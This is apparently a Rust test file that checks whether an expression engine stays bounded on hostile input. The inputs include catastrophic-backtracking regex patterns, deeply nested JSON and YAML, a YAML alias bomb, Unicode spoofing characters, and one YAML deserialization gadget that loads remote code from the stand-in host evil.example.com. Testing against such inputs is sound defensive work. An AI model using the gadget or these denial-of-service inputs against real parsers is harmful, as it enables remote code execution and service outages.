//! What is in texts: regular expressions, JSON and YAML, and characters of all kinds.

use gennaker_core::expression::{MAX_EXPRESSIONS, MAX_PATTERN};
use serde_json::json;

use super::{ANY, End, all_end};
use crate::fixture::World;

/// Patterns that make other engines go through all ways of a match.
#[test]
fn patterns_take_time_in_proportion_to_the_text() {
    let world = World::with([("a", json!("a".repeat(50_000))), ("long", json!("x".repeat(MAX_PATTERN + 1)))]);
    for pattern in [
        "(a+)+$",
        "(a|aa)+$",
        "(a|a?)+$",
        "([a-zA-Z]+)*$",
        "(.*a){20}$",
        "(.*)*$",
        "^(([a-z])+.)+[A-Z]([a-z])+$",
        "a*a*a*a*a*a*a*a*a*a*b",
        "(?:a?){50}a{50}b",
        "((a*)*)*b",
        "(a|b|ab)*c",
    ] {
        for expression in [
            format!("(parameters.a + '!') matches '{pattern}'"),
            format!("(parameters.a + '!').matches('{pattern}')"),
            format!("(parameters.a + '!').replaceAll('{pattern}', '').length()"),
            format!("(parameters.a + '!').replaceFirst('{pattern}', '').length()"),
            format!("(parameters.a + '!').split('{pattern}').length"),
        ] {
            all_end(&world, [format!("${{ {expression} }}")], ANY);
        }
    }
    let pattern = |pattern: &str| format!("${{ 'x' matches '{pattern}' }}");
    all_end(&world, ["${ 'x' matches parameters.long }"], &[End::TooLong, End::OtherError]);
    for bad in [
        r"(((((((((((((((((((((((((((((((((((((((((((((",
        "[[[[[[[[[[[[[[[[[[[[[[[[[[[[",
        "a{1000}{1000}{1000}",
        "(a{1000}){1000}",
        r"(\pL{1000}){1000}",
        "(?=a)",
        "(?<!a)b",
        r"(a)\1",
        r"\k<x>",
        "(?>a)",
        "a++",
        "a*+",
        "*",
        "+",
        "a{2,1}",
        "[z-a]",
        r"\",
        r"\Q",
        "(?x",
        "(?P<x>a)(?P<x>b)",
        "[a&&[^b]]{1000}{1000}",
        r"\G",
        r"\p{Nothing}",
        r"\x{110000}",
    ] {
        all_end(&world, [pattern(bad)], &[End::OtherError, End::TooLong, End::Value]);
    }
    all_end(&world, [pattern(&"(".repeat(500)), pattern(&format!("{}a{}", "(".repeat(400), ")".repeat(400)))], ANY);
    // As many as there can be: each is compiled, and compiling is paid for.
    let many = "${ 'x' matches '(\\pL{20}){20}' }".repeat(MAX_EXPRESSIONS);
    let numbers: Vec<u32> = (0..30_000).collect();
    let world = World::with([("numbers", json!(numbers))]);
    all_end(&world, [many, "${ parameters.numbers.![('(\\pL{9}){9}' + #this)].?[#this matches #this] }".into()], ANY);
}

#[test]
fn what_is_read_from_texts_is_bounded() {
    let brackets = "[".repeat(100_000);
    let objects = "{\"a\":".repeat(20_000);
    let aliases: String =
        (1..20).map(|level| format!("a{level}: &a{level} [*a{0}, *a{0}, *a{0}, *a{0}]\n", level - 1)).collect();
    let documents = "---\na: 1\n".repeat(20_000);
    let long = json!(vec![json!({"name": "x", "on": true, "list": [1, 2, 3]}); 10_000]).to_string();
    let world = World::with([
        ("brackets", json!(brackets)),
        ("objects", json!(objects)),
        ("aliases", json!(format!("a0: &a0 x\n{aliases}"))),
        ("documents", json!(documents)),
        ("long", json!(long)),
    ]);
    for expression in [
        "#readJson(parameters.brackets)",
        "#readJson(parameters.objects)",
        "#readYaml(parameters.brackets)",
        "#readYaml(parameters.objects)",
        "#readAllYaml(parameters.brackets)",
        "#readYaml(parameters.aliases)",
        "#readAllYaml(parameters.aliases)",
        "#readAllYaml(parameters.documents)",
        "#readYaml(parameters.documents)",
        "#readJson(parameters.long)",
        "#readYaml(parameters.long)",
        "#readJson(parameters.long).![#this.list].size()",
        "#fromBase64(parameters.brackets)",
        "#readYaml('!!binary x')",
        "#readYaml('!!java.util.Date {}')",
        "#readYaml('!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [http://evil.example.com/]]]]')",
        "#readYaml('<<: *x')",
        "#readYaml('&a [*a]')",
        "#readYaml('? [a]\n: b')",
        "#readYaml('1: a')",
        "#readYaml('.nan')",
        "#readYaml('.inf')",
        "#readJson('1e999')",
        "#readJson('123456789012345678901234567890')",
        "#readJson('NaN')",
        "#readJson('\"\\ud800\"')",
    ] {
        all_end(&world, [format!("${{ {expression} }}")], ANY);
    }
    all_end(&world, ["${ #readJson(parameters.long).size() }"], &[End::Value]);
    all_end(&world, ["${ #readYaml(parameters.long).size() }"], &[End::TooCostly]);
}

/// Characters of several bytes and of two UTF-16 units: places count as Java counts them, and cutting one in two is an error
/// or gives a replacement.
#[test]
fn characters_are_not_cut_apart() {
    let world = World::with([("text", json!("a👩‍🚀é\u{301}\u{202e}\u{0}\u{feff}Ⅷ"))]);
    let methods = [
        "length()",
        "substring(I)",
        "substring(0, I)",
        "substring(I, 9)",
        "charAt(I)",
        "indexOf('é', I)",
        "indexOf('🚀')",
        "lastIndexOf('é', I)",
        "startsWith('👩', I)",
        "split('')",
        "replaceAll('.', '-')",
        "replace('👩', 'x')",
        "toUpperCase()",
        "toLowerCase()",
        "hashCode()",
        "trim()",
        "strip()",
        "repeat(I)",
        "compareTo('👩')",
        "matches('.*')",
        "codePointAt(I)",
        "concat('👩')",
    ];
    for place in 0..16 {
        for method in methods {
            let call = method.replace('I', &place.to_string());
            all_end(
                &world,
                [format!("${{ parameters.text.{call} }}"), format!("${{ parameters.text[{place}] }}")],
                ANY,
            );
        }
    }
    for text in [
        "${ '👩' }",
        "${ \u{a0}1\u{a0} }",
        "${\u{3000}1 }",
        "${ \u{feff}1 }",
        "${ 1 \u{0} }",
        "\u{feff}${ 1 }",
        "${ 'a\u{0}b' }",
        "é${ nowhere }",
        "👩${ nowhere }",
        "${ пример }",
        "${ parameters.пример }",
        "${ parameters['пример'] }",
        "${ é }",
        "${ 1 ＋ 1 }",
        "${ ‘a’ }",
        "${ 1\u{200b} }",
        "${ 𝟙 }",
        "${ ١ }",
        "${ '\u{202e}' }",
        "${ #ünicode() }",
        "${\r\n1\r\n}",
        "${\t1\u{b}}",
        "${ 'a\nb' }",
    ] {
        all_end(&world, [text], ANY);
    }
}
